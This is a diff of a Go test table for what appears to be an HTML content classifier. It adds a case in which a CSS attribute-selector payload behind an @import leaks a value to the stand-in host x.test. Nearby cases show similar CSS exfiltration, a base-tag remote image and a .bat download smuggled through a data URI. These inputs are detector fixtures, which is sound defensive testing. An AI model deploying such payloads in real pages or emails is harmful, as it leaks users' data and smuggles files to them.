@@ -48,6 +48,7 @@ func TestOdd(t *testing.T) {
 		{"selector that tells, behind a rule in it", `<style>p[value^=a]{b{c:d}e:url(//x.test/)}</style>`, CSS},
 		{"selector that tells, with blanks", `<style>p[ *|value ^=a]{e:url(//x.test/)}</style>`, CSS},
 		{"selector that tells, behind a brace in a string", `<style>p[value^=a]{b:"}";e:url(//x.test/)}</style>`, CSS},
+		{"selector that tells, behind an import without a blank", `<style>@import"a";p[value^="{"]{b:url(//x.test/)}</style>`, CSS},
 		{"relative image behind a base", `<base href="https://x.test/"><img src=a>`, Remote},
 		{"small file to be kept", `<a download=a.bat href="data:text/plain,start">a</a>`, Smuggling},
 		{"drawings", strings.Repeat(drawing21(), 17), "Unreadable"},
